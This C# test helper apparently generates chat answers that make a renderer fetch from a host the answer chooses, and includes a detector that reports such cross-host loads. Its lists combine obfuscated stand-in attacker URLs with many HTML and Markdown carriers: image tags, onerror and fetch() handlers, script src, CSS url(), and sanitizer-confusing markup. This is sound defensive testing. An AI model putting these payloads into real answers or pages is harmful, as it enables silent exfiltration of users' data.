using AngleSharp;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Markdig;

namespace ServerlessGuard.Attack.Tests.Texts;

/// <summary>Answers for which a renderer fetches something from a host of the answer's choice.</summary>
internal static class RemoteFetches
{
    /// <summary>The page that renders an answer.</summary>
    public const string Page = "https://app.example/chat/";

    private static readonly string[] Addresses =
    [
        "https://evil.example/N", "//evil.example/N", "/\t/evil.example/N", "\\\\evil.example/N", "/\\evil.example/N",
        "http:/evil.example/N",
        "https:evil.example/N", "http://203.0.113.7/N", "http://[2001:db8::7]/N", "https://b\u00fccher.example/N", "HTTPS://EVIL.EXAMPLE/N",
        "h\nttps://evil.example/N", "https&colon;//evil.example/N", "https&#58;&#47;&#47;evil.example/N", "&#x2f;/evil.example/N",
        "https:\\/\\/evil.example/N", "https\\://evil.example/N", "&sol;&sol;evil.example/N", "https://user:pw@evil.example:8080/N?q=1#f",
        "&#104;ttps://evil.example/N", "https&colon;&sol;&sol;evil&period;example/N", "\u0009https://evil.example/N", " //evil.example/N",
    ];

    private static readonly string[] Holders =
    [
        "![x](URL)", "![x](<URL>)", "![](URL \"t\")", "![x]( URL )", "![x](\nURL\n)", "![a [b] c](URL)", "![a [b](c) d](URL)",
        "![a\\]b](URL)",
        "![a\nb](URL)", "![`]`](URL)", "![" + "long alt ".PadRight(700, 'x') + "](URL)", "[![x](URL)](/local)", "*![x](URL)*",
        "- ![x](URL)", "> ![x](URL)",
        "| a |\n|---|\n| ![x](URL) |", "# ![x](URL)", "![x](URL)![y](./b.png)", "![x](./a.png) and ![y](URL)", "![x][r]\n\n[r]: URL",
        "![x][]\n\n[x]: URL",
        "![x]\n\n[x]: URL", "[x]: URL\n\n![x]", "[x]: <URL>\n\n![a][x]", "[x]:\nURL 'title'\n\n![x][]", "![a [b] c][r]\n\n[r]: URL",
        "![`]`][r]\n\n[r]: URL",
        "> [r]: URL\n\n![r]", "![R R]\n\n[r  r]: URL", "![\\!]\n\n[\\!]: URL",
        "<img src=\"URL\">", "<img src='URL'>", "<img src=URL>", "<img/src=\"URL\"/>", "<IMG SRC = \"URL\" >",
        "<img alt='>' src=\"URL\">", "<img\nsrc=\"URL\">",
        "<img alt=\"a\nb\" src=\"URL\">", "<img srcset=\"URL 1x\">", "<img src=\"URL\"", "<img src=\"URL\" alt=\"",
        "<image src=\"URL\">", "<img src=x onerror=\"this.src='URL'\">",
        "<picture><source srcset=\"URL\"><img></picture>", "<video poster=\"URL\"></video>", "<video src=\"URL\" autoplay></video>",
        "<audio src=\"URL\" autoplay></audio>",
        "<video><track default src=\"URL\"></video>", "<iframe src=\"URL\"></iframe>", "<iframe srcdoc=\"<img src='URL'>\"></iframe>",
        "<object data=\"URL\"></object>",
        "<embed src=\"URL\">", "<input type=image src=\"URL\">", "<link rel=stylesheet href=\"URL\">",
        "<link rel=preload as=image href=\"URL\">",
        "<base href=\"URL/\"><img src=x>", "<base href=\"URL/\">\n\n![x](x)", "<body background=\"URL\">",
        "<table background=\"URL\"><tr><td>x</table>",
        "<table><tr><td background=\"URL\">x</table>", "<div style=\"background:url(URL)\">x</div>",
        "<p style='background-image:image-set(\"URL\" 1x)'>x</p>",
        "<b style=\"background:u\\72l(URL)\">x</b>", "<x-y style=\"background:&#117;rl(URL)\">x</x-y>",
        "<li style='list-style:url(URL)'>x", "<q style='content:url(URL)'>x</q>",
        "<style>*{background:url(URL)}</style>x", "<style>@import 'URL';</style>", "<style>@import url(URL);</style>",
        "<svg><image href=\"URL\" width=9 height=9 /></svg>",
        "<svg><image xlink:href=\"URL\" width=9 height=9 /></svg>", "<svg><style>*{background:url(URL)}</style></svg>",
        "<script src=\"URL\"></script>",
        "<script>fetch('URL')</script>", "<b onclick=x onanimationstart=\"fetch('URL')\" style=\"animation:a\">x",
        "<details open ontoggle=\"fetch('URL')\">x</details>",
        "<a <img src=\"URL\">", "<a title=\"<img src='URL'>\"><img src=\"URL\">", "<!-- --!><img src=\"URL\">",
        "<!--><img src=\"URL\">-->", "<textarea></textarea><img src=\"URL\">",
        "<noscript><img src=\"URL\"></noscript>", "```\n```\n<img src=\"URL\">", "`x <img src=\"URL\">", "\\\\<img src=\"URL\">",
        "<p><img src=\"URL\"></p>", "<x><img src=\"URL\"></x>",
        "<math><mi><img src=\"URL\"></mi></math>", "<select><img src=\"URL\"></select><img src=\"URL\">",
        "<meta http-equiv=refresh content=\"0;url=URL\">", "<frameset><frame src=\"URL\"></frameset>",
    ];

    /// <summary>How many there are.</summary>
    public static int Count => Addresses.Length * Holders.Length;

    /// <summary>Answers, each with a path of its own; the first ones are all holders with a plain address.</summary>
    public static IEnumerable<string> Some(int count, int seed)
    {
        var random = new Random(seed);
        for (var i = 0; i < count; i++)
        {
            var at = count >= Count ? i % Count : i < Holders.Length ? i * Addresses.Length : random.Next(Count);
            yield return "See " + Holders[at / Addresses.Length].Replace(
                "URL", Addresses[at % Addresses.Length].Replace("N", $"n{i}n", StringComparison.Ordinal),
                StringComparison.Ordinal) + " end";
        }
    }

    /// <summary>
    /// The first thing that loads from another host than the page's, in the text as HTML or as Markdown; null when nothing does.
    /// </summary>
    public static string? Fetch(string text) => FetchOfHtml(text) ?? FetchOfHtml(Markdown.ToHtml(text))
        ?? FetchOfHtml(Markdown.ToHtml(text, new MarkdownPipelineBuilder().UseAdvancedExtensions().Build()));

    private static string? FetchOfHtml(string html)
    {
        var document = new HtmlParser().ParseDocument("<!DOCTYPE html><body>" + html);
        foreach (var element in document.Body!.QuerySelectorAll("*").Concat(document.Head!.QuerySelectorAll("*")))
        {
            if (element.LocalName is "script" or "style" or "base" or "link" or "meta" or "iframe" or "object" or "embed")
            {
                return element.LocalName;
            }

            foreach (var attribute in element.Attributes)
            {
                var loads = attribute.LocalName is "src" or "srcset" or "poster" or "background" or "data" or "srcdoc" or "ping"
                    || (attribute.LocalName == "href" && element.LocalName is not ("a" or "area"));
                if ((loads && new Url(new Url(Page), attribute.Value.Trim()).HostName != new Url(Page).HostName)
                    || attribute.LocalName.StartsWith("on", StringComparison.Ordinal)
                    || (attribute.LocalName == "style" && attribute.Value.Contains("url", StringComparison.OrdinalIgnoreCase)))
                {
                    return $"{attribute.LocalName} of {element.LocalName}";
                }
            }
        }

        return null;
    }
}
